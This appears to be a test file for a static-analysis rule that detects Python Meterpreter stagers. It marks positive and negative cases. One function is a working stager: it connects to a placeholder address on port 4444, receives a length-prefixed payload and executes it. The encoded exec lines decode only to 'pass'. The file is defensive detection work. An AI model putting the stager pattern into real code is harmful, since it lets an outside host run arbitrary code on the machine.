import base64
import socket
import struct
import sys

# ruleid: meterpreter-stager
exec(__import__("base64").b64decode(__import__("codecs").getencoder("utf-8")("cGFzcw==")[0]))

# ruleid: meterpreter-stager
exec(base64.b64decode({2: str, 3: lambda b: bytes(b, "UTF-8")}[sys.version_info[0]]("cGFzcw==")))


def stage():
    s = socket.socket(2, 1)
    s.connect(("203.0.113.4", 4444))
    length = struct.unpack(">I", s.recv(4))[0]
    d = s.recv(length)
    while len(d) < length:
        d += s.recv(length - len(d))
    # ruleid: meterpreter-stager
    exec(d, {"s": s})


def read_frame(sock):
    size = struct.unpack(">I", sock.recv(4))[0]
    # ok: meterpreter-stager
    return sock.recv(size)


# ok: meterpreter-stager
exec("pass")

# ok: meterpreter-stager
text = __import__("codecs").getencoder("utf-8")("abc")[0]
